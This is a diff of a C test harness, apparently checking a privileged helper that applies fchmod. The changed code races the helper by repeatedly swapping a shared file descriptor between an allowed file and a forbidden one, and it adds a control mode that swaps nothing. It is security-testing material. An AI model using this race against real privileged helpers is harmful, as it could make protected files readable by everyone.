@@ -4,14 +4,14 @@
 //   fchmod  makes ALLOWED readable for everybody
 #include "attack.h"
 
-static int allowed, forbidden, slot;
+static int allowed, forbidden, behind, slot;
 static const char *way;
 
 // until the one that it helps is gone, which may be too untrusted to kill it
 static int swap(void *unused) {
   (void)unused;
   for (pid_t helped = getppid(); getppid() == helped;) {
-    dup2(forbidden, slot);
+    dup2(behind, slot);
     for (volatile int i = 0; i < 300; i++);
     dup2(allowed, slot);
     for (volatile int i = 0; i < 600; i++);
@@ -34,6 +34,8 @@ int main(int argc, char **argv) {
   way = argv[2];
   allowed = open(argv[3], O_RDONLY);
   forbidden = open(argv[4], O_RDONLY);
+  // while it is learned nothing is swapped: it might win
+  behind = attacking(argc, argv) ? forbidden : allowed;
   slot = dup(allowed);
   if (allowed < 0 || forbidden < 0) return 3;
   int tries = attacking(argc, argv) ? 50 : 1, refused = 0;
